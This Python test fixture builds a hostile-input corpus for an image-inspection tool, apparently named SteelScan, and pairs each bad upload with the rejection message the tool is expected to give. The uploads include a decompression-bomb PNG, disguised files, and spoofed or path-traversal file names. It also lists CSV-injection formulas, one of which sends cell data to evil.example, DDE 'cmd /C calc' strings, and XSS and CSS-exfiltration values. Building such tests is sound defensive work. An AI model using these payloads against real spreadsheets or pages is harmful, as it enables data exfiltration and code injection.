"""The hostile-input corpus, generated (never committed): what a careless or malicious sender gives us.

`corpus()` maps a file name to (bytes, expected): expected is None for an image that must be
inspected normally, or a regex the one-line rejection must match.
"""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image


def _image(height: int = 64, width: int = 96) -> Image.Image:
    return Image.fromarray(np.random.default_rng(0).integers(0, 255, (height, width, 3), dtype=np.uint8))


def _encode(image: Image.Image, fmt: str, **kwargs) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **kwargs)
    return buffer.getvalue()


def png_header_claiming(width: int, height: int) -> bytes:
    """A tiny, valid-looking PNG whose header promises width x height pixels."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def _multi_frame(fmt: str) -> bytes:
    buffer = io.BytesIO()
    _image().save(buffer, format=fmt, save_all=True, append_images=[_image(), _image()])
    return buffer.getvalue()


def _zip() -> bytes:
    import zipfile
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("inside.jpg", _encode(_image(), "JPEG"))
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def corpus() -> dict[str, tuple[bytes, str | None]]:
    jpeg, png = _encode(_image(), "JPEG"), _encode(_image(), "PNG")
    return {
        "zero-byte.jpg": (b"", "is empty"),
        "truncated.jpg": (jpeg[: len(jpeg) // 3], "truncated"),
        "truncated.png": (png[: len(png) // 3], "truncated"),
        "page.jpg": (b"<!doctype html><html><body>hello</body></html>", "not an image"),
        "archive.jpg": (_zip(), "not an image"),
        "program.jpg": (ELF, "not an image"),
        "bomb.png": (png_header_claiming(30000, 30000), "decompression bomb"),
        "one-pixel.png": (_encode(_image(1, 1), "PNG"), "only 1x1"),
        "frames.tif": (_multi_frame("TIFF"), "3 frames"),
        "animation.gif": (_multi_frame("GIF"), "not a supported image type"),
        "renamed.jpg": (png, "does not match its content"),
        # Valid images that must be inspected, not refused:
        "deep-16bit.tif": (_encode(Image.fromarray(np.full((64, 96), 40000, np.uint16)), "TIFF"), None),
        "cmyk.jpg": (_encode(_image().convert("CMYK"), "JPEG"), None),
        "naïve-ß-東京-\u202eevil.png": (png, None),
        "..evil.png": (png, None),
    }


# -- beyond image bytes: the trust boundaries of issue 13 ---------------------------------------------

# Upload names and override reasons a spreadsheet would run as formulas (OWASP CSV injection).
CSV_PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")

# Model-card edits: (path in card.json, hostile value, what the one-line refusal must say).
HOSTILE_CARD_EDITS = [
    (("classes", 0, "name"), "<img src=x onerror=alert(1)>", r"classes\[0\] \('<img.*\.name must be 1-64 letters"),
    (("classes", 1, "color"), "red;background:url(https://evil.example/x)",
     r"classes\[1\] \('crazing'\)\.color must be a colour written #rrggbb"),
    (("classes", 2, "threshold"), 1.5, r"classes\[2\].*threshold input should be less than or equal to 1 \(got 1.5\)"),
    (("classes", 3, "min_area"), -4, r"classes\[3\].*min_area input should be greater than or equal to 0"),
    (("classes", 1, "name"), "pits", r"class names repeat"),
    (("name",), "../../etc", r"card: name must be 1-128 letters.*fix name in the card"),
    (("std",), [0.0, 0.2, 0.2], r"std value error, each value must lie in"),
    (("schema_version",), 99, r"schema_version 99, newer than this SteelScan reads.*update SteelScan"),
    (("task",), "regression", r"task 'regression' is unknown.*multi-label"),
]
